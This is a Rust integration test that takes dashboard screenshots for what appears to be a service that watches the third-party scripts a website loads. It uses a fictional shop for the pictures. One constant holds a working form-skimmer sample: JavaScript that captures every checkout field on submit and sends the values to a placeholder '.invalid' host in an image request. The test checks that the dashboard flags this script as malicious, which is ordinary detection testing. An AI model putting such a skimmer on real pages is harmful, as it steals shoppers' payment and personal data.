//! Pictures of the dashboard for the docs, of a made-up shop. They are kept with
//!
//! ```sh
//! DASHBOARD_PICTURES=docs/images cargo test -p pagewarden-service --test it pictures::
//! ```
//!
//! Skipped, and said so, where there is no chromedriver.
#![allow(clippy::unwrap_used, clippy::print_stderr, reason = "what is not as expected fails the test")]

use std::path::Path;
use std::time::Duration;

use crate::door::{Door, now, see};
use crate::webdriver::Browser;
use axum::http::Method;
use monitor::{Monitor, Observation};
use serde_json::json;
use service::{FeedState, SiteTables};

/// Sends nothing: the host does not exist, and nobody runs it.
const SKIMMER: &str = "(function () {\n  var form = document.querySelector('#checkout');\n  form.addEventListener('submit', function () {\n    \
    var fields = form.querySelectorAll('input'), taken = {};\n    for (var i = 0; i < fields.length; i++) {\n      \
    taken[fields[i].name] = fields[i].value;\n    }\n    new Image().src = 'https://stats.collect.invalid/p.gif?d=' + \
    btoa(JSON.stringify(taken));\n  });\n})();\n";

fn fill(monitor: &mut Monitor<SiteTables>) {
    let (home, pay) = ("https://fernandpot.example/", "https://fernandpot.example/checkout");
    for (url, page, text) in [
        ("https://cdn.stars-widget.example/v2/stars.js", pay, "rate(document.querySelector('#stars'), 5);"),
        ("https://chat.fernandpot.example/widget.js", home, "chat.open({ corner: 'right' });"),
        (
            "https://fernandpot.example/js/tiny-dom.js",
            home,
            "window.tinyDom = { one: s => document.querySelector(s) };",
        ),
        (
            "https://stats.fernandpot.example/v1/count.js",
            home,
            "navigator.sendBeacon('/v1/events', location.pathname);",
        ),
        ("https://pay.fernandpot.example/sdk/3.js", pay, "pay.mount('#card');"),
        ("https://tags.late-garden.example/loader.js", pay, SKIMMER),
    ] {
        see(monitor, url, page, Some(text));
    }
    for url in [
        "https://stats.fernandpot.example/",
        "wss://chat.fernandpot.example/",
        "https://fonts.fernandpot.example/",
    ] {
        let seen = Observation::connection(url).on_page(home).times(3);
        monitor.observe(&seen, now()).unwrap();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pictures_of_the_dashboard() {
    let Some(browser) = tokio::task::spawn_blocking(Browser::start).await.unwrap() else { return };
    let door = Door::open();
    door.site("fernandpot", fill).await;
    door.site("blog", |monitor| {
        see(
            monitor,
            "https://cdn.stars-widget.example/v2/stars.js",
            "https://blog.example/",
            Some("rate(1)"),
        );
    })
    .await;
    let mut feed = FeedState::new("hosts of malware");
    feed.fetched_at = Some(now());
    door.service.feeds().replace(vec![feed]);
    let resources = door.get("/api/v1/sites/fernandpot/resources").await.json();
    let resource = |end: &str| {
        let all = resources["resources"].as_array().unwrap();
        all.iter().find(|one| one["url"].as_str().unwrap().ends_with(end)).unwrap().clone()
    };
    let sdk = resource("/sdk/3.js");
    let said = json!({ "justification": "takes the payment", "approve": true, "hash": sdk["hash"] });
    let path = format!("/api/v1/sites/fernandpot/resources/{}/justification", sdk["id"]);
    door.ask(&door.token, Method::POST, &path, Some(said)).await;
    let bad = resource("/loader.js");
    assert_eq!(bad["malicious"], true, "{bad}");

    let (base, stop) = door.listen().await;
    let token = door.token.clone();
    let pictures = [
        ("sites-desktop", "/".to_owned(), (1280, 720, "light")),
        ("scripts-phone", "/sites/fernandpot/scripts".to_owned(), (390, 844, "light")),
        // The forms for a decision are above its scores.
        ("resource-dark", format!("/sites/fernandpot/resources/{}#scores", bad["id"]), (1280, 900, "dark")),
    ];
    tokio::task::spawn_blocking(move || {
        browser.visit(&format!("{base}/login"));
        browser.keys("#token", &format!("{token}\u{e007}"));
        for _ in 0..100 {
            if browser.run("return location.pathname") == "/" {
                break;
            }
            std::thread::sleep(Duration::from_millis(100));
        }
        for (name, path, (width, height, scheme)) in pictures {
            browser.resize(width, height, scheme);
            browser.visit(&format!("{base}{path}"));
            let text = browser.run("return document.body.innerText");
            assert!(text.as_str().unwrap().to_lowercase().contains("malicious"), "{path}: {text}");
            let wide = browser
                .run("return document.documentElement.scrollWidth - document.documentElement.clientWidth");
            assert_eq!(wide, 0, "{path} is wider than its window");
            let picture = browser.screenshot();
            let size = picture.len();
            assert!((4 << 10..200 << 10).contains(&size), "{name}: {size} bytes");
            let Some(target) = std::env::var_os("DASHBOARD_PICTURES") else { continue };
            let target = Path::new(env!("CARGO_MANIFEST_DIR")).join("../..").join(target);
            std::fs::create_dir_all(&target).unwrap();
            std::fs::write(target.join(format!("dashboard-{name}.png")), picture).unwrap();
        }
        drop(browser);
    })
    .await
    .unwrap();
    let _ = stop.send(true);
}
